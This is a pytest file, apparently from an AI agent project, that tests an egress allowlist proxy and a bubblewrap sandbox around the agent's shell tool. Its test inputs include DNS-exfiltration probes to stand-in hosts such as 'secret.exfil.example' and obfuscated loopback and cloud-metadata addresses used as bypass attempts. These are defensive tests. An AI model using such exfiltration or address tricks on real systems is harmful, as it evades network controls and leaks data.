"""The egress allowlist (tools.exec.network "allowlist"): the proxy's decisions, and commands in
a real bubblewrap sandbox reaching a local test server by name — never the internet.

DNS and routing are the far side of the network: a scripted resolver maps test names to
addresses, and the connector maps the one public test address to the local server."""

from __future__ import annotations

import asyncio
import http.server
import json
import socket
import threading
from pathlib import Path

import pytest

from nanobot.config.schema import Config, ExecConfig
from nanobot.security.audit import configure_audit
from nanobot.security.egress import EgressProxy, parse_domains
from nanobot.security.pathpolicy import PathPolicy
from nanobot.security.sandbox import (
    BwrapSandbox,
    RequiredSandboxMissing,
    bwrap_status,
    make_sandbox,
)
from nanobot.tools.base import ToolContext
from nanobot.tools.shell import ExecTool

PUBLIC = "93.184.216.34"  # what "allowed.test" resolves to; the connector routes it locally
NAMES = {
    "allowed.test": [PUBLIC],
    "api.allowed.test": [PUBLIC],
    "inside.allowed.test": ["10.0.0.7"],  # an allowed name that resolves to a private address
    "meta.allowed.test": ["169.254.169.254"],
    "mixed.allowed.test": [PUBLIC, "127.0.0.1"],
    "mapped.allowed.test": ["::ffff:127.0.0.1"],
}
ALLOWED = ["allowed.test", "*.allowed.test"]

needs_bwrap = pytest.mark.skipif(not bwrap_status()[0], reason="bubblewrap cannot run here")


class ScriptedDNS:
    def __init__(self) -> None:
        self.lookups: list[str] = []

    def resolve(self, host: str, port: int) -> list[str]:
        self.lookups.append(host)
        if host not in NAMES:
            raise OSError("Name or service not known")
        return NAMES[host]


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = f"hello {self.headers.get('Host')} {self.path}\n".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def server():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


@pytest.fixture
def proxy(server):
    connected: list[str] = []

    def connect(address: str, port: int, timeout: float) -> socket.socket:
        connected.append(address)
        if address != PUBLIC:
            raise OSError("unreachable in this test network")
        return socket.create_connection(("127.0.0.1", server), timeout)

    p = EgressProxy(ALLOWED, ScriptedDNS(), connect)
    p.connected = connected
    return p


@pytest.fixture
def trail(tmp_path, monkeypatch):
    """The audit trail's egress events (the trail written to a temporary NANOBOT_HOME)."""
    monkeypatch.setenv("NANOBOT_HOME", str(tmp_path / "nbhome"))
    configure_audit(Config())
    path = tmp_path / "nbhome" / "logs" / "audit.jsonl"

    def events() -> list[dict]:
        lines = path.read_text().splitlines() if path.exists() else []
        return [e for e in map(json.loads, lines) if e["event"] == "egress"]

    yield events
    off = Config()
    off.security.audit.enabled = False
    configure_audit(off)


def test_domains_are_names_only():
    assert parse_domains(["PyPI.org.", "*.example.com"]) == ["pypi.org", "*.example.com"]
    for bad in ["https://x.org", "x.org:443", "10.0.0.1", "*", "a..b", "x.org/p", "0x7f.1"]:
        with pytest.raises(ValueError, match="allowedDomains"):
            parse_domains([bad])


@pytest.mark.parametrize(
    "host, why",
    [
        ("evil.test", "not in tools.exec.allowedDomains"),
        ("allowed.test.evil.test", "not in tools.exec.allowedDomains"),
        ("xallowed.test", "not in tools.exec.allowedDomains"),
        ("127.0.0.1", "an IP address"),
        ("2130706433", "an IP address"),
        ("0177.0.0.1", "an IP address"),
        ("0x7f.1", "an IP address"),
        ("[::1]", "an IP address"),
        ("[::ffff:169.254.169.254]", "an IP address"),
        ("inside.allowed.test", "a private network address"),
        ("meta.allowed.test", "metadata"),
        ("mixed.allowed.test", "loopback"),
        ("mapped.allowed.test", "loopback"),
    ],
)
def test_refusals(proxy, host, why):
    address, reason = proxy.decide(host, 443)
    assert address is None and why in reason


def test_refused_names_are_never_resolved(proxy):
    proxy.decide("secret-data.exfil.example", 443)
    proxy.decide("allowed.test", 443)
    assert proxy.resolver.lookups == ["allowed.test"]


def test_apex_and_suffix(proxy):
    assert proxy.decide("Allowed.Test.", 80) == (PUBLIC, "")
    assert proxy.decide("api.allowed.test", 443) == (PUBLIC, "")
    only_sub = EgressProxy(["*.allowed.test"], ScriptedDNS())
    assert only_sub.decide("allowed.test", 443)[0] is None


def test_resolves_once_and_connects_to_the_checked_address(server):
    answers = iter([[PUBLIC], ["127.0.0.1"]])  # a rebinding DNS server

    class Rebinding:
        calls = 0

        def resolve(self, host, port):
            Rebinding.calls += 1
            return next(answers)

    seen = []

    def connect(address, port, timeout):
        seen.append(address)
        return socket.create_connection(("127.0.0.1", server), timeout)

    p = EgressProxy(ALLOWED, Rebinding(), connect)
    a, b = socket.socketpair()
    t = threading.Thread(target=p.handle, args=(a, "curl"))
    t.start()
    b.sendall(b"GET http://allowed.test/x HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    data = b""
    while chunk := b.recv(4096):
        data += chunk
    t.join(5)
    assert b"hello allowed.test /x" in data
    assert seen == [PUBLIC] and Rebinding.calls == 1


# ---- from inside a real sandbox -------------------------------------------------------------


def run(tool: ExecTool, command: str):
    return asyncio.run(tool.execute(ToolContext(), command=command))


@pytest.fixture
def boxed(tmp_path, proxy, trail):
    ws, home = tmp_path / "ws", tmp_path / "home"
    ws.mkdir()
    home.mkdir()
    sandbox = BwrapSandbox(ws, home, network="allowlist", egress=proxy)
    return ExecTool(PathPolicy(ws, True, home), ExecConfig(timeout=20), sandbox)


@needs_bwrap
def test_allowed_name_over_http_and_connect(boxed, server, trail):
    r = run(boxed, f"curl -sS http://allowed.test:{server}/plain")
    assert r.text.strip() == f"hello allowed.test:{server} /plain", r.text
    # CONNECT: the tunnel opens (HTTP spoken through it here, as TLS would be)
    r = run(boxed, f"curl -sS --proxytunnel http://api.allowed.test:{server}/tunnel")
    assert f"hello api.allowed.test:{server} /tunnel" in r.text, r.text
    decisions = [(e["host"], e["decision"]) for e in trail()]
    assert decisions == [("allowed.test", "allowed"), ("api.allowed.test", "allowed")]
    assert all("curl" in e["command"] for e in trail())


@needs_bwrap
def test_refused_domain_says_why(boxed, proxy, trail):
    r = run(boxed, "curl -sS https://evil.test/")
    assert r.exit_code != 0
    assert "refused evil.test:443: not in tools.exec.allowedDomains" in r.text
    assert "Note: the sandbox refused this: the egress proxy refused evil.test" in r.text
    assert trail()[-1]["decision"] == "refused" and "evil.test" in trail()[-1]["command"]


@needs_bwrap
def test_allowed_name_resolving_to_a_private_address(boxed, proxy):
    r = run(boxed, "curl -sS https://inside.allowed.test/")
    assert "resolves to 10.0.0.7, a private network address" in r.text
    assert proxy.connected == []


@needs_bwrap
def test_raw_sockets_and_dns_go_nowhere(boxed, server, proxy):
    probe = (
        "import socket\n"
        f"for host, port in (('127.0.0.1', {server}), ('{PUBLIC}', 80), ('1.1.1.1', 53)):\n"
        "    try:\n"
        "        socket.create_connection((host, port), 2); print('REACHED', host)\n"
        "    except OSError as e: print('no', host, e.errno)\n"
    )
    r = run(boxed, f'python3 -c "{probe}"')
    assert "REACHED" not in r.text and r.text.count("no ") == 3, r.text
    # DNS exfiltration: no resolver is reachable, and the proxy never looks refused names up
    r = run(
        boxed, "getent hosts secret.exfil.example; echo rc=$?; curl -sS http://secret.x.example/"
    )
    assert "rc=2" in r.text and "not in tools.exec.allowedDomains" in r.text
    assert "secret.exfil.example" not in proxy.resolver.lookups
    assert "secret.x.example" not in proxy.resolver.lookups


@needs_bwrap
def test_proxy_env_and_session_cleanup(boxed, proxy):
    r = run(boxed, "echo $HTTPS_PROXY $http_proxy; ls /run/nanobot")
    assert "http://127.0.0.1:3128 http://127.0.0.1:3128" in r.text
    assert "egress.sock" in r.text and "egress_fwd.py" in r.text
    leftovers = list(Path(proxy.runtime_dir or "/tmp").glob("nanobot-egress-*"))
    for _ in range(50):
        if not leftovers:
            break
        asyncio.run(asyncio.sleep(0.05))
        leftovers = [p for p in leftovers if p.exists()]
    assert leftovers == []  # the session ended with the sandbox


@needs_bwrap
def test_exit_status_passes_through(boxed):
    assert run(boxed, "exit 7").exit_code == 7


def test_allowlist_without_bubblewrap_refuses_every_command(tmp_path):
    cfg = ExecConfig(sandbox="none", network="allowlist", allowed_domains=["pypi.org"])
    sb = make_sandbox(cfg, tmp_path, tmp_path / "h")
    assert isinstance(sb, RequiredSandboxMissing)
    tool = ExecTool(PathPolicy(tmp_path, True, tmp_path / "h"), cfg, sb)
    r = run(tool, "echo ran-it")
    assert "ran-it" not in r.text and r.decision == "refused by sandbox"
